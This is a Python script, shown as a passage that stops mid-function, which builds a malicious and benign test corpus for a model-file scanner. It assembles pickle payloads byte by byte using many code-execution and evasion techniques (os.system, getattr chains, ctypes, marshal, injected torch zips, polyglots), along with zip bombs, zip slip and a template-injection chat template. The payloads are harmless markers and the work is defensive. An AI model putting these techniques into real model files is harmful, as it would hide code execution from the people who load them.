#!/usr/bin/python3
"""Builds the corpus that scan/corpus_test.go checks the scanner against.

Run from anywhere with Debian's python3 (torch 1.13, numpy, onnx):

    /usr/bin/python3 scan/testdata/make_corpus.py

It writes scan/testdata/corpus/{malicious,benign}/ and manifest.json (file or
folder -> the severity the scanner must reach at least, or "BENIGN": nothing
at MEDIUM or above).

Safety: the malicious files are assembled opcode by opcode (or by editing
bytes) and are NEVER loaded, unpickled or run by this script. Their
payloads are harmless anyway: the commands would create a marker file under
/tmp or print a line. Only the benign files are produced by the libraries'
own writers (torch.save, numpy.save, pickle.dumps of plain data).
"""

import collections
import datetime
import decimal
import gzip
import io
import json
import marshal
import os
import pickle
import pickletools
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "corpus")
MAL = os.path.join(OUT, "malicious")
BEN = os.path.join(OUT, "benign")

# The harmless payloads.
CMD = "touch /tmp/bulwark-corpus-marker"
PY = "print('bulwark corpus marker')"

manifest = {}


def put(kind, name, data, expect, what):
    """Writes one corpus file and records what the scanner must say."""
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    manifest[kind + "/" + name] = {"expect": expect, "what": what}


def mark_dir(kind, name, expect, what):
    manifest[kind + "/" + name] = {"expect": expect, "what": what}


# ---------------------------------------------------------------- assembler


class Asm:
    """Writes pickle opcodes one by one (see pickletools for their meaning)."""

    def __init__(self, proto=None):
        self.b = bytearray()
        if proto is not None and proto >= 2:
            self.b += b"\x80" + bytes([proto])

    def op(self, code, arg=b""):
        self.b += code + arg
        return self

    def s(self, text):  # str, protocol 3+ style
        data = text.encode()
        if len(data) < 256:
            return self.op(b"\x8c", bytes([len(data)]) + data)
        return self.op(b"X", struct.pack("<I", len(data)) + data)

    def by(self, data):  # bytes
        if len(data) < 256:
            return self.op(b"C", bytes([len(data)]) + data)
        return self.op(b"B", struct.pack("<I", len(data)) + data)

    def glob(self, module, name):
        return self.op(b"c", module.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self, module, name):
        return self.s(module).s(name).op(b"\x93")

    def int1(self, v):
        return self.op(b"K", bytes([v]))

    def mark(self):
        return self.op(b"(")

    def tuple(self):
        return self.op(b"t")

    def t1(self):
        return self.op(b"\x85")

    def t2(self):
        return self.op(b"\x86")

    def t3(self):
        return self.op(b"\x87")

    def empty_tuple(self):
        return self.op(b")")

    def reduce(self):
        return self.op(b"R")

    def build(self):
        return self.op(b"b")

    def memoize(self):
        return self.op(b"\x94")

    def binput(self, i):
        return self.op(b"q", bytes([i]))

    def binget(self, i):
        return self.op(b"h", bytes([i]))

    def pop(self):
        return self.op(b"0")

    def none(self):
        return self.op(b"N")

    def stop(self):
        return self.op(b".")

    def bytes(self):
        return bytes(self.b)


def call_os_system(proto=2):
    """posix.system(CMD): what pickle.dumps of a __reduce__ exploit gives."""
    return Asm(proto).glob("posix", "system").s(CMD).t1().reduce().stop().bytes()


# ---------------------------------------------------------- malicious pickles


def malicious_pickles():
    put("malicious", "pickle/os_system_reduce.pkl", call_os_system(), "CRITICAL",
        "GLOBAL posix.system + REDUCE, the classic __reduce__ payload")
    put("malicious", "pickle/os_system_proto0.pkl",
        b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.", "CRITICAL",
        "protocol 0 text pickle: GLOBAL os.system, STRING, TUPLE, REDUCE")

    # The module and name reach STACK_GLOBAL through the memo, so that no
    # "os" sits next to the opcode.
    a = Asm(4).s("os").memoize().pop().s("sys" + "tem").memoize().pop()
    a.op(b"\x8c", bytes([4]) + b"junk").pop()
    a.binget(0).binget(1).op(b"\x93").s(CMD).t1().reduce().stop()
    put("malicious", "pickle/memo_stack_global.pkl", a.bytes(), "CRITICAL",
        "memo trick: module and name stored with MEMOIZE, fetched with BINGET into STACK_GLOBAL")

    put("malicious", "pickle/inst_opcode.pkl",
        b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", "CRITICAL", "INST opcode imports and calls os.system")
    a = Asm(None).mark().glob("os", "system").op(b"X", struct.pack("<I", len(CMD)) + CMD.encode()).op(b"o").stop()
    put("malicious", "pickle/obj_opcode.pkl", a.bytes(), "CRITICAL", "OBJ opcode calls os.system")

    # builtins.getattr(builtins.__import__("os"), "system")(CMD)
    a = Asm(4).stack_global("builtins", "getattr").memoize()
    a.stack_global("builtins", "__import__").s("os").t1().reduce()
    a.s("system").t2().reduce().s(CMD).t1().reduce().stop()
    put("malicious", "pickle/getattr_chain.pkl", a.bytes(), "CRITICAL",
        "builtins.getattr(__import__('os'), 'system')(cmd)")

    # importlib.import_module("subprocess") then getattr(..., "getoutput")
    a = Asm(4).stack_global("builtins", "getattr")
    a.stack_global("importlib", "import_module").s("subprocess").t1().reduce()
    a.s("getoutput").t2().reduce().s(CMD).t1().reduce().stop()
    put("malicious", "pickle/importlib_import_module.pkl", a.bytes(), "CRITICAL",
        "importlib.import_module('subprocess') then getattr")

    inner = call_os_system(2)
    a = Asm(4).stack_global("_pickle", "loads").by(inner).t1().reduce().stop()
    put("malicious", "pickle/nested_pickle_loads.pkl", a.bytes(), "CRITICAL",
        "_pickle.loads of a second, embedded pickle that calls os.system")

    # ctypes.CDLL(None).system(CMD) through getattr.
    a = Asm(4).stack_global("builtins", "getattr")
    a.stack_global("ctypes", "CDLL").none().t1().reduce()
    a.s("system").t2().reduce().by(CMD.encode()).t1().reduce().stop()
    put("malicious", "pickle/ctypes_cdll.pkl", a.bytes(), "CRITICAL", "ctypes.CDLL(None).system(cmd)")

    # numpy.__builtins__["eval"](PY): builtins reached through another
    # module's attribute.
    a = Asm(4).stack_global("operator", "getitem").stack_global("numpy", "__builtins__")
    a.s("eval").t2().reduce().s(PY).t1().reduce().stop()
    put("malicious", "pickle/numpy_builtins.pkl", a.bytes(), "CRITICAL",
        "numpy.__builtins__['eval'](...) through operator.getitem")

    # A dotted protocol 4 name that reaches os through torch.serialization.
    a = Asm(4).stack_global("torch.serialization", "os.system").s(CMD).t1().reduce().stop()
    put("malicious", "pickle/module_attr_os.pkl", a.bytes(), "CRITICAL",
        "STACK_GLOBAL torch.serialization / os.system: os reached through a module attribute")

    a = Asm(2).glob("runpy", "run_path").s("/tmp/bulwark-corpus-script.py").t1().reduce().stop()
    put("malicious", "pickle/runpy_run_path.pkl", a.bytes(), "CRITICAL", "runpy.run_path")

    # operator.attrgetter("system")(importlib.import_module("os"))(CMD)
    a = Asm(4).stack_global("operator", "attrgetter").s("system").t1().reduce()
    a.stack_global("importlib", "import_module").s("os").t1().reduce().t1().reduce()
    a.s(CMD).t1().reduce().stop()
    put("malicious", "pickle/operator_attrgetter.pkl", a.bytes(), "CRITICAL",
        "operator.attrgetter('system') applied to import_module('os')")

    # operator.methodcaller("system", CMD)(__import__("os"))
    a = Asm(4).stack_global("operator", "methodcaller").s("system").s(CMD).t2().reduce()
    a.stack_global("builtins", "__import__").s("os").t1().reduce().t1().reduce().stop()
    put("malicious", "pickle/operator_methodcaller.pkl", a.bytes(), "CRITICAL",
        "operator.methodcaller('system', cmd)(os)")

    # functools.partial(posix.system, CMD)()
    a = Asm(2).glob("functools", "partial").glob("posix", "system").s(CMD).t2().reduce()
    a.empty_tuple().reduce().stop()
    put("malicious", "pickle/functools_partial.pkl", a.bytes(), "CRITICAL",
        "functools.partial wrapping os.system, then called")

    put("malicious", "pickle/builtins_eval_py2.pkl",
        b"c__builtin__\neval\n(S\"" + PY.encode() + b"\"\ntR.", "CRITICAL",
        "Python 2 name __builtin__.eval")
    a = Asm(3).glob("builtins", "exec").s("import os; os.system(%r)" % CMD).t1().reduce().stop()
    put("malicious", "pickle/builtins_exec.pkl", a.bytes(), "CRITICAL", "builtins.exec of source")

    # subprocess.Popen through NEWOBJ_EX with keyword arguments.
    a = Asm(4).stack_global("subprocess", "Popen")
    a.s("touch").s("/tmp/bulwark-corpus-marker").op(b"\x86").op(b"\x85")
    a.op(b"}").s("shell").op(b"\x89").op(b"s").op(b"\x92").stop()
    put("malicious", "pickle/subprocess_newobj_ex.pkl", a.bytes(), "CRITICAL",
        "NEWOBJ_EX subprocess.Popen(['touch', ...], shell=False)")

    # BUILD on the class itself: monkeypatching collections.OrderedDict.
    a = Asm(2).glob("collections", "OrderedDict").none()
    a.op(b"}").s("__repr__").glob("builtins", "id").op(b"s").t2().build().stop()
    put("malicious", "pickle/build_on_global.pkl", a.bytes(), "HIGH",
        "BUILD with slot state on a class (monkeypatching)")

    # BUILD whose state swaps the object's __class__.
    a = Asm(2).glob("collections", "OrderedDict").empty_tuple().reduce()
    a.none().op(b"}").s("__class__").glob("builtins", "object").op(b"s").t2().build().stop()
    put("malicious", "pickle/build_dunder_class.pkl", a.bytes(), "HIGH",
        "BUILD state sets __class__")

    a = Asm(2).op(b"\x82", b"\x07").s(CMD).t1().reduce().stop()
    put("malicious", "pickle/ext_opcode.pkl", a.bytes(), "MEDIUM",
        "EXT1 code 7 called: whatever copyreg registered under 7")

    benign = pickle.dumps({"a": 1}, protocol=2)
    put("malicious", "pickle/multi_stream.pkl", benign + call_os_system(2), "CRITICAL",
        "a harmless pickle followed by a second one calling os.system")

    code = marshal.dumps(compile(PY, "<corpus>", "exec"))
    a = Asm(4).stack_global("types", "FunctionType")
    a.stack_global("marshal", "loads").by(code).t1().reduce()
    a.op(b"}").t2().reduce().empty_tuple().reduce().stop()
    put("malicious", "pickle/types_functiontype.pkl", a.bytes(), "CRITICAL",
        "types.FunctionType(marshal.loads(code), {})()")

    a = Asm(4).stack_global("dill._dill", "_create_code").int1(0).int1(0).t2().reduce().stop()
    put("malicious", "pickle/dill_create_code.pkl", a.bytes(), "CRITICAL", "dill's code helper")

    a = Asm(2).glob("webbrowser", "open").s("http://bulwark.invalid/").t1().reduce().stop()
    put("malicious", "pickle/webbrowser_open.pkl", a.bytes(), "CRITICAL", "webbrowser.open")
    a = Asm(2).glob("timeit", "timeit").s(PY).t1().reduce().stop()
    put("malicious", "pickle/timeit_source.pkl", a.bytes(), "CRITICAL", "timeit.timeit runs a source string")
    a = Asm(2).glob("asyncio", "create_subprocess_shell").s(CMD).t1().reduce().stop()
    put("malicious", "pickle/asyncio_subprocess.pkl", a.bytes(), "CRITICAL", "asyncio subprocess")
    a = Asm(2).glob("socket", "create_connection").s("bulwark.invalid").int1(80).t2().t1().reduce().stop()
    put("malicious", "pickle/socket_connect.pkl", a.bytes(), "CRITICAL", "socket.create_connection")
    a = Asm(2).glob("shutil", "rmtree").s("/tmp/bulwark-corpus-dir").t1().reduce().stop()
    put("malicious", "pickle/shutil_rmtree.pkl", a.bytes(), "CRITICAL", "shutil.rmtree")
    a = Asm(2).glob("pty", "spawn").s("/bin/true").t1().reduce().stop()
    put("malicious", "pickle/pty_spawn.pkl", a.bytes(), "CRITICAL", "pty.spawn")
    a = Asm(2).glob("code", "interact").empty_tuple().reduce().stop()
    put("malicious", "pickle/code_interact.pkl", a.bytes(), "CRITICAL", "code.interact")

    # torch.load(io.BytesIO(<pickle>)): a loader fed an embedded payload.
    a = Asm(4).stack_global("torch", "load").stack_global("io", "BytesIO").by(call_os_system(2)).t1().reduce()
    a.t1().reduce().stop()
    put("malicious", "pickle/torch_load_bytesio.pkl", a.bytes(), "CRITICAL", "torch.load(io.BytesIO(payload))")

    a = Asm(2).glob("numpy", "load").s("/tmp/bulwark-corpus.npy").none().op(b"\x88").t3().reduce().stop()
    put("malicious", "pickle/numpy_load_allow_pickle.pkl", a.bytes(), "CRITICAL",
        "numpy.load(path, None, allow_pickle=True)")

    # STACK_GLOBAL whose module name is computed by a call.
    a = Asm(4).stack_global("builtins", "str").s("os").t1().reduce().s("system").op(b"\x93")
    a.s(CMD).t1().reduce().stop()
    put("malicious", "pickle/dynamic_stack_global.pkl", a.bytes(), "CRITICAL",
        "STACK_GLOBAL with a module name computed by str('os')")

    # Same payload under the other pickle extensions and names.
    put("malicious", "pickle/os_system.joblib", call_os_system(), "CRITICAL", "pickle named .joblib")
    put("malicious", "pickle/os_system.dill", call_os_system(), "CRITICAL", "pickle named .dill")
    put("malicious", "pickle/disguised_weights.bin", call_os_system(), "CRITICAL",
        "pickle named .bin, found by its PROTO magic")
    put("malicious", "pickle/disguised_notes.txt", b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.", "CRITICAL",
        "protocol 0 pickle named .txt, found because it parses to STOP")

    # Resource attacks and malformed pickles: at least MEDIUM, never clean.
    a = Asm(2).none().op(b"r", struct.pack("<I", 0xFFFFFFF0)).stop()
    put("malicious", "limits/memo_index_bomb.pkl", a.bytes(), "MEDIUM",
        "LONG_BINPUT 0xfffffff0: CPython allocates a 64 GiB memo table")
    a = Asm(2).op(b"]").binput(0)
    for i in range(40):
        a.mark().binget(i).binget(i).op(b"l").binput(i + 1).pop()
    a.binget(40).stop()
    put("malicious", "limits/expansion_bomb.pkl", a.bytes(), "MEDIUM",
        "40 levels of [x, x]: 2**40 elements once references are expanded")
    a = Asm(2)
    for _ in range(1100):
        a.op(b"]")
    for _ in range(1099):
        a.op(b"a")
    a.stop()
    put("malicious", "limits/deep_nesting.pkl", a.bytes(), "MEDIUM", "lists nested 1100 deep")
    a = Asm(2).glob("builtins", "bytearray").op(b"\x8a", b"\x06" + (10**12).to_bytes(6, "little")).t1().reduce().stop()
    put("malicious", "limits/bytearray_bomb.pkl", a.bytes(), "MEDIUM", "builtins.bytearray(10**12)")
    put("malicious", "limits/truncated_length.pkl", b"\x80\x04X" + struct.pack("<I", 10**9) + b"short",
        "MEDIUM", "BINUNICODE declares 1e9 bytes, 5 follow")
    put("malicious", "limits/no_stop.pkl", Asm(2).none().bytes(), "MEDIUM", "ends without STOP")
    put("malicious", "limits/bad_opcode.pkl", b"\x80\x02\xff.", "MEDIUM", "unknown opcode 0xff")
    put("malicious", "limits/protocol6.pkl", b"\x80\x06N.", "MEDIUM", "PROTO 6, which Python refuses")
    # Truncated after the dangerous call: os.system would already have run.
    put("malicious", "limits/truncated_after_call.pkl", call_os_system()[:-1], "CRITICAL",
        "os.system payload without its STOP")


# ------------------------------------------------------------- containers


def torch_files():
    import torch

    torch.manual_seed(0)
    sd = {"w": torch.randn(3, 3), "b": torch.zeros(3)}
    buf = io.BytesIO()
    torch.save(sd, buf)
    zbytes = buf.getvalue()

    def rezip(orig, edit):
        """Rewrites a torch zip through edit(name, data) -> data, adding
        entries edit returns for the key None."""
        src = zipfile.ZipFile(io.BytesIO(orig))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
            for info in src.infolist():
                dst.writestr(info.filename, edit(info.filename, src.read(info.filename)))
            for name, data in edit(None, None) or []:
                dst.writestr(name, data)
        return out.getvalue()

    payload = Asm(None).glob("posix", "system").s(CMD).t1().reduce().pop().bytes()

    def inject(name, data):
        if name is None:
            return []
        if name.endswith("/data.pkl"):
            assert data[:2] == b"\x80\x02"
            return data[:2] + payload + data[2:]
        return data

    put("malicious", "pytorch/zip_inject_data_pkl.pt", rezip(zbytes, inject), "CRITICAL",
        "torch.save zip whose data.pkl starts with an os.system call, then loads normally")

    def extra(name, data):
        if name is None:
            return [("archive/extra.pkl", call_os_system(2))]
        return data

    put("malicious", "pytorch/zip_extra_pkl.pt", rezip(zbytes, extra), "CRITICAL",
        "torch.save zip with an extra malicious .pkl entry")
    put("malicious", "pytorch/zip_named_safetensors.safetensors", rezip(zbytes, inject), "CRITICAL",
        "a malicious torch zip named .safetensors")

    buf = io.BytesIO()
    torch.save(sd, buf, _use_new_zipfile_serialization=False)
    legacy = buf.getvalue()
    f = io.BytesIO(legacy)
    starts = []
    for _ in range(4):
        starts.append(f.tell())
        for _ in pickletools.genops(f):
            pass
    data_start = starts[3]
    assert legacy[data_start:data_start + 2] == b"\x80\x02"
    bad = legacy[:data_start + 2] + payload + legacy[data_start + 2:]
    put("malicious", "pytorch/legacy_stacked_inject.pt", bad, "CRITICAL",
        "legacy (non-zip) torch.save: payload in the 4th of the stacked pickles")

    # Legacy tar format: a tar with sys_info, pickle, storages, tensors.
    put("malicious", "pytorch/legacy_tar.tar", tar_of({"sys_info": pickle.dumps({"x": 1}, protocol=2),
                                                      "pickle": call_os_system(2),
                                                      "storages": pickle.dumps(0, protocol=2),
                                                      "tensors": pickle.dumps(0, protocol=2)}),
        "CRITICAL", "legacy tar torch format whose 'pickle' entry calls os.system")

    # Benign files from torch.save.
    put("benign", "pytorch/state_dict.pt", zbytes, "BENIGN", "torch.save of a state dict (zip)")
    put("benign", "pytorch/state_dict_legacy.pt", legacy, "BENIGN", "torch.save of a state dict, legacy format")
    model = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.ReLU(),
                                torch.nn.Flatten(), torch.nn.Linear(8, 2), torch.nn.Dropout(0.1))
    for legacy_fmt, name in ((False, "module.pt"), (True, "module_legacy.pt")):
        buf = io.BytesIO()
        torch.save(model, buf, _use_new_zipfile_serialization=not legacy_fmt)
        put("benign", "pytorch/" + name, buf.getvalue(), "BENIGN", "torch.save of a whole nn.Sequential")
        buf = io.BytesIO()
        torch.save(model.state_dict(), buf, _use_new_zipfile_serialization=not legacy_fmt)
        put("benign", "pytorch/module_state_" + name, buf.getvalue(), "BENIGN", "state_dict() with OrderedDict and _metadata")
    dtypes = {str(d): torch.ones(2, dtype=d) for d in (torch.float16, torch.bfloat16, torch.float64,
                                                        torch.int8, torch.uint8, torch.int32, torch.int64,
                                                        torch.bool, torch.complex64)}
    dtypes["q"] = torch.quantize_per_tensor(torch.ones(2), 0.1, 0, torch.qint8)
    dtypes["param"] = torch.nn.Parameter(torch.ones(2))
    dtypes["size"] = torch.Size([2, 3])
    dtypes["device"] = torch.device("cpu")
    dtypes["dtype"] = torch.float32
    buf = io.BytesIO()
    torch.save(dtypes, buf)
    put("benign", "pytorch/dtypes.pt", buf.getvalue(), "BENIGN", "tensors of many dtypes, quantized, Parameter, Size, device")
    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.ones(1, 1, 4, 4)).sum().backward()
    opt.step()
    import argparse
    ckpt = {"epoch": 3, "model": model.state_dict(), "optimizer": opt.state_dict(),
            "args": argparse.Namespace(lr=0.1, name="run"), "losses": [1.5, 0.7]}
    buf = io.BytesIO()
    torch.save(ckpt, buf)
    put("benign", "pytorch/checkpoint.pt", buf.getvalue(), "BENIGN", "training checkpoint: optimizer state, argparse.Namespace")
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU())), buf)
    put("benign", "pytorch/torchscript.pt", buf.getvalue(), "BENIGN",
        "torch.jit.save of a scripted module (TorchScript pickles and code/)")
    put("benign", "pytorch/tensor_plain_pickle.pkl", pickle.dumps(torch.arange(4.0)), "BENIGN",
        "pickle.dumps of a tensor: torch.storage._load_from_bytes of an embedded torch zip")


def tar_of(entries, mode="w"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=tarfile.PAX_FORMAT) as t:
        for name, data in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zip_of(entries, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return out.getvalue()


def npy_header(descr, shape):
    header = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, tuple(shape))
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()


def numpy_files():
    import numpy as np

    # Object arrays hold a pickle after the header (numpy.save writes
    # protocol 3); here it is a payload instead.
    mal_npy = npy_header("|O", (1,)) + call_os_system(3)
    put("malicious", "numpy/object_payload.npy", mal_npy, "CRITICAL", ".npy object array whose pickle calls os.system")
    ok = io.BytesIO()
    np.save(ok, np.arange(3, dtype=np.float32))
    put("malicious", "numpy/object_payload.npz", zip_of({"arr_0.npy": mal_npy, "weights.npy": ok.getvalue()}),
        "CRITICAL", ".npz with a malicious object array member")
    put("malicious", "numpy/trailing_pickle.npy", ok.getvalue() + call_os_system(2), "CRITICAL",
        ".npy with a pickle appended after the array data (polyglot)")
    put("malicious", "numpy/truncated.npy", ok.getvalue()[:-4], "MEDIUM", ".npy missing the end of its data")

    def saved(arr, **kw):
        b = io.BytesIO()
        np.save(b, arr, **kw)
        return b.getvalue()

    put("benign", "numpy/float.npy", saved(np.ones((2, 3))), "BENIGN", "np.save of a float array")
    put("benign", "numpy/allow_pickle_numeric.npy", saved(np.arange(5), allow_pickle=True), "BENIGN",
        "np.save(allow_pickle=True) of a numeric array (no pickle inside)")
    put("benign", "numpy/structured.npy", saved(np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,)), ("c", "S3")])),
        "BENIGN", "structured dtype")
    put("benign", "numpy/unicode.npy", saved(np.array(["ab", "cde"])), "BENIGN", "unicode strings")
    put("benign", "numpy/object_benign.npy", saved(np.array([1, "a", None, 2.5], dtype=object), allow_pickle=True),
        "BENIGN", "object array of ints and strings: a pickle with only numpy and builtins")
    b = io.BytesIO()
    np.savez(b, a=np.ones(3), b=np.zeros((2, 2)))
    put("benign", "numpy/arrays.npz", b.getvalue(), "BENIGN", "np.savez")
    b = io.BytesIO()
    np.savez_compressed(b, a=np.zeros((300, 300)))
    put("benign", "numpy/arrays_compressed.npz", b.getvalue(), "BENIGN", "np.savez_compressed (ratio ~1000:1)")
    for p in (2, 3, 4, 5):
        put("benign", "numpy/pickle_p%d.pkl" % p,
            pickle.dumps({"x": np.arange(6, dtype=np.float32).reshape(2, 3), "s": np.float64(1.5),
                          "i": np.int64(3), "dt": np.dtype("<u2")}, protocol=p),
            "BENIGN", "pickle.dumps of numpy arrays, scalars and dtypes, protocol %d" % p)
    rs = np.random.RandomState(0)
    put("benign", "numpy/random_state.pkl", pickle.dumps(rs, protocol=4), "BENIGN", "pickled numpy RandomState")


def builtin_pickles():
    data = {
        "list": [1, 2.5, "x", b"y", None, True, False, -7, 2**70],
        "od": collections.OrderedDict(a=1, b=[1]),
        "dd": collections.defaultdict(list, {"k": [1]}),
        "deque": collections.deque([1, 2]),
        "counter": collections.Counter("aab"),
        "set": {1, 2}, "frozenset": frozenset([3]), "bytearray": bytearray(b"zz"),
        "complex": complex(1, 2), "slice": slice(1, 10, 2), "range": range(3),
        "tuple": (1, (2, 3)), "date": datetime.date(2024, 1, 2),
        "dt": datetime.datetime(2024, 1, 2, 3, 4, 5), "td": datetime.timedelta(seconds=3),
        "dec": decimal.Decimal("1.5"), "unicode": "héllo ✓",
    }
    shared = [1, 2]
    data["shared"] = [shared, shared]
    for p in range(0, 6):
        put("benign", "pickle/builtins_p%d.pkl" % p, pickle.dumps(data, protocol=p), "BENIGN",
            "builtins and collections, protocol %d" % p)
    put("benign", "pickle/two_streams.pkl", pickle.dumps([1]) + pickle.dumps({"b": 2}), "BENIGN",
        "two concatenated harmless pickles")
    put("benign", "archives/pickle.tar.gz", tar_of({"data/model.pkl": pickle.dumps(data, protocol=4)}, mode="w:gz"),
        "BENIGN", "tar.gz holding a harmless pickle")
    put("malicious", "archives/pickle.tar.gz", tar_of({"data/model.pkl": call_os_system(4)}, mode="w:gz"),
        "CRITICAL", "tar.gz holding an os.system pickle")
    put("malicious", "archives/os_system.pkl.gz", gzip.compress(call_os_system(2), mtime=0), "CRITICAL",
        "gzip of an os.system pickle")
    put("malicious", "archives/zip_slip.zip", zip_of({"../../outside.txt": b"x"}), "MEDIUM",
        "zip entry named ../../outside.txt")


def zip_bomb():
    """A nested bomb: 4 entries of 64 MiB of zeros, deflated, inside a zip
    that is deflated again (deflate output of zeros is itself repetitive)."""
    zeros = bytes(64 << 20)
    inner = zip_of({"zeros%d.bin" % i: zeros for i in range(4)})
    outer = zip_of({"inner.zip": inner})
    put("malicious", "archives/zip_bomb.zip", outer, "HIGH", "nested zip: %d bytes expanding to 256 MiB" % len(outer))


# ------------------------------------------------------------- other formats


def safetensors_bytes(tensors, metadata=None):
    header, blobs, off = {}, [], 0
    if metadata:
        header["__metadata__"] = metadata
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [off, off + len(data)]}
        blobs.append(data)
        off += len(data)
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + b"".join(blobs)


def safetensors_files():
    good = safetensors_bytes({"w": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4)),
                              "b": ("F32", [2], struct.pack("<2f", 0, 1))}, {"format": "pt"})
    put("benign", "safetensors/model.safetensors", good, "BENIGN", "valid safetensors")
    put("malicious", "safetensors/polyglot_pickle.safetensors", good + call_os_system(2), "HIGH",
        "valid safetensors with an os.system pickle appended (polyglot)")
    bad = safetensors_bytes({"w": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4))})
    n = struct.unpack("<Q", bad[:8])[0]
    hdr = bad[8:8 + n].replace(b"[0,16]", b"[0,32]")
    put("malicious", "safetensors/offsets_past_end.safetensors", bad[:8] + hdr + bad[8 + n:], "MEDIUM",
        "data_offsets beyond the file")
    put("benign", "safetensors/metadata_code.safetensors",
        safetensors_bytes({"w": ("F32", [1], struct.pack("<f", 1))}, {"note": "import os; os.system('x')"}),
        "BENIGN", "metadata that looks like code: an INFO notice only")


def gguf_bytes(kvs, tensors, alignment=32, bad_offset=None):
    def s(text):
        b = text.encode()
        return struct.pack("<Q", len(b)) + b

    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs))
    for key, (t, v) in kvs.items():
        out += s(key) + struct.pack("<I", t)
        if t == 8:
            out += s(v)
        elif t == 4:
            out += struct.pack("<I", v)
        elif t == 9:
            out += struct.pack("<IQ", 8, len(v)) + b"".join(s(x) for x in v)
    offset = 0
    datas = []
    for name, dims, data in tensors:
        out += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", 0, bad_offset if bad_offset is not None else offset)
        datas.append(data)
        offset += (len(data) + alignment - 1) // alignment * alignment
    out += bytes((alignment - len(out) % alignment) % alignment)
    for d in datas:
        out += d + bytes((alignment - len(d) % alignment) % alignment)
    return out


def gguf_files():
    kvs = {"general.architecture": (8, "llama"), "general.alignment": (4, 32),
           "tokenizer.ggml.tokens": (9, ["<s>", "</s>", "a"]),
           "tokenizer.chat_template": (8, "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}")}
    tensors = [("tok_embd.weight", [4, 2], struct.pack("<8f", *range(8))), ("out.weight", [4], struct.pack("<4f", 1, 2, 3, 4))]
    put("benign", "gguf/model.gguf", gguf_bytes(kvs, tensors), "BENIGN", "valid GGUF v3")
    put("malicious", "gguf/bad_offset.gguf", gguf_bytes(kvs, tensors, bad_offset=1 << 40), "HIGH",
        "tensor offsets far outside the file")
    evil = dict(kvs)
    evil["tokenizer.chat_template"] = (8, "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for m in messages %}{{ m['content'] }}{% endfor %}")
    put("malicious", "gguf/chat_template_ssti.gguf", gguf_bytes(evil, tensors), "HIGH",
        "chat template reaching __subclasses__ (template injection)")
    huge = b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 0)
    put("malicious", "gguf/huge_tensor_count.gguf", huge, "HIGH", "tensor count of 2**60 in a 24-byte file")


def keras_config(layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers},
            "registered_name": None}


def dense(name):
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 2,
            "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}},
            "registered_name": None}


LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {
    "name": "lambda", "function": {"class_name": "__lambda__", "config": {
        # Not real bytecode: the corpus only needs the structure.
        "code": "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAdAB8AIMBUwApAU4pAdoFcHJpbnQ=", "defaults": None, "closure": None}}},
    "registered_name": None}


def keras_zip(config):
    return zip_of({"metadata.json": json.dumps({"keras_version": "3.3.3"}).encode(),
                   "config.json": json.dumps(config).encode(),
                   "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(64)})


def keras_h5(model_config):
    """A Keras 2 style .h5: the model config as the model_config attribute
    and a weights group, written with h5py as Keras does. Without h5py the
    file is only an HDF5 signature followed by the attribute text laid out as
    h5py writes it (uncompressed), which is all the scanner's search reads."""
    try:
        import h5py
        import numpy as np
    except ImportError:
        return (b"\x89HDF\r\n\x1a\n" + bytes(88) + b"model_config\x00\x00\x00\x00" +
                json.dumps(model_config).encode() + b"\x00" + b"backend\x00tensorflow\x00")
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = "2.11.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(model_config)
        g = f.create_group("model_weights").create_group("d1").create_group("d1")
        g.create_dataset("kernel:0", data=np.ones((2, 2), dtype=np.float32))
    return buf.getvalue()


def keras_files():
    put("malicious", "keras/lambda.keras", keras_zip(keras_config([dense("d1"), LAMBDA])), "HIGH",
        ".keras with a Lambda layer")
    custom = dict(dense("d2"))
    custom.update({"module": "evil_package.layers", "class_name": "Backdoor", "registered_name": "evil_package>Backdoor"})
